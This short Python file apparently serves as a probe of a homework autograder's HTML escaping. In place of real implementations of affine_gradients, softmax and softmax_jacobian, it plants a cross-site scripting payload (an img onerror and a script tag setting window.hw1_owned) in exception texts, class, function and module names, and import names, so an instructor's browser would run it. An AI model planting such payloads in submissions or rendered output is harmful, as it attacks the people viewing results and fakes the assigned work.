# The instructor's browser: HTML in exception texts, in names of classes, functions and modules.
evil = "<img src=x onerror='window.hw1_owned=true'><script>window.hw1_owned=true</script>"
Evil = type(evil, (Exception,), {"__module__": evil, "__qualname__": evil})


def affine_gradients(x, dC_dy):
    raise Evil(evil)


affine_gradients.__name__ = affine_gradients.__qualname__ = evil


def softmax(x, beta):
    exec(compile("raise ValueError(evil)", evil, "exec"), {"evil": evil})


def softmax_jacobian(x, beta):
    __import__(evil)


import hw1_owned_by_an_import_that_is_not_there
